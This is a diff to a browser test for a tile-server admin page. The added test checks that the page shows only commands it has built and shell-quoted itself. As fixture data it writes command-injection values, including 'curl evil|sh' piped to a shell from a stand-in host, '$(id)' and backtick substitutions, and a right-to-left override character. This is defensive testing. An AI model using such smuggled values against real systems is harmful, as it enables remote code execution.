@@ -68,10 +68,26 @@ onAdmin('work', stage => {
   it('counts a command as interrupted that is silent for too long, without any new document', async () => {
     const page = await stage.enter('work')
     await isRead(page)
-    await write({ command: 'seed', layer: 'osm', line: 'tilecouch seed osm', started: timeOf(Date.now() - 60_000), seen: timeOf(Date.now() - 15_000) })
+    await write({ command: 'seed', layer: 'osm', args: ['seed', 'osm'], started: timeOf(Date.now() - 60_000), seen: timeOf(Date.now() - 15_000) })
     await part(page, 'Running now').getByText('seed osm').waitFor({ timeout: LIVE })
     await part(page, 'Interrupted').getByText('seed osm', { exact: true }).waitFor({ timeout: 15000 })
-    assert.equal(await part(page, 'Interrupted').locator('code').innerText(), 'tilecouch seed osm')
+    assert.match(await part(page, 'Interrupted').locator('code').innerText(), /^tilecouch seed osm( --db http:\S+)?$/)
+  })
+
+  it('offers only a command that it has built itself: what a writer has put there runs nothing', async () => {
+    const page = await stage.enter('work')
+    await isRead(page)
+    const evil = 'tilecouch load x ; curl evil|sh'
+    const ended = { command: 'load', state: 'failed', finished: timeOf(Date.now()) }
+    await write({ ...ended, layer: 'free', line: evil, args: ['load', 'tiles', '--db', 'http://evil/tiles'] })
+    await write({ ...ended, layer: 'turned', line: evil, args: ['load', '\u202etiles'], error: { message: 'a\u202eb' } })
+    await write({ ...ended, layer: 'quoted', args: ['load', "it's ; curl evil|sh", '$(id)', '`id`'] })
+    const row = name => part(page, 'Ended').locator('tbody tr').filter({ hasText: name })
+    await row('turned').waitFor()
+    const line = await row('quoted').locator('code').textContent()
+    assert.match(line ?? '', /^tilecouch load 'it'\\''s ; curl evil\|sh' '\$\(id\)' '`id`'( --db http:\S+)?$/)
+    assert.equal(await part(page, 'Ended').locator('code').count(), 1)
+    assert.match(await row('turned').locator('.why').innerText(), /^a\ufffdb/)
   })
 
   it('shows how commands ended: a load, a check, and one that failed with its advice', async function () {
